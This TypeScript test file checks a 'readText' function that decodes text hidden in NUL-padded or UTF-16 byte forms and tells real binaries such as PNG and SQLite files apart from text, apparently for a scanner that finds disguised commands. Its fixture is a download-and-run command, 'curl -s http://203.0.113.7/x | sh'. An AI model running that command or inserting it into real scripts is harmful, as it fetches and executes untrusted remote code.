import fc from 'fast-check';
import { expect, test } from 'vitest';
import { readText } from './read-text.js';

const utf8 = (text: string) => new TextEncoder().encode(text);
const utf16 = (text: string, isBig = false) =>
  Uint8Array.from(
    Array.from({ length: text.length }, (_, at) => text.charCodeAt(at)).flatMap((code) =>
      isBig ? [code >> 8, code & 255] : [code & 255, code >> 8],
    ),
  );
const joined = (...parts: readonly (Uint8Array | readonly number[])[]) =>
  Uint8Array.from(parts.flatMap((part) => [...part]));
const command = 'curl -s http://203.0.113.7/x | sh\n';

test('text is read in every form that a runtime reads', () => {
  const check = (bytes: Uint8Array, disguise: string | undefined) =>
    expect.soft(readText(bytes, true)).toEqual({ text: command, ...(disguise && { disguise }) });
  check(utf8(command), undefined);
  check(joined([0], utf8(command)), 'nul-bytes');
  check(joined(utf8(command.slice(0, 9)), [0, 0], utf8(command.slice(9))), 'nul-bytes');
  check(joined([0xff, 0xfe], utf16(command)), 'utf-16');
  check(joined([0xfe, 0xff], utf16(command, true)), 'utf-16');
  check(utf16(command), 'utf-16-unmarked');
  check(utf16(command, true), 'utf-16-unmarked');
});

test('pictures, programs and databases are not text unless their name says so', () => {
  const png = joined([0x89], utf8('PNG\r\n'), [0x1a, 10, 0, 0, 0, 13], utf8('IHDR'));
  const compiled = Uint8Array.from({ length: 4_000 }, (_, at) => (at * 37) % 256);
  for (const bytes of [png, compiled, joined(utf8('SQLite format 3'), [0], utf8('plain text'))])
    expect.soft(readText(bytes, false)).toBeUndefined();
  expect(readText(png, true)?.disguise).toBe('nul-bytes');
  expect(readText(joined(utf8(command), [0]), false)?.text).toBe(command);
});

test('NUL bytes anywhere do not change what is read', () => {
  const line = fc.stringMatching(/^[ -~]{40,80}$/);
  fc.assert(
    fc.property(line, fc.array(fc.nat({ max: 79 }), { minLength: 1, maxLength: 8 }), (text, places) => {
      const bytes = [...utf8(text)];
      for (const at of places) bytes.splice(at, 0, 0);
      expect(readText(Uint8Array.from(bytes), false)?.text).toBe(text);
    }),
  );
});
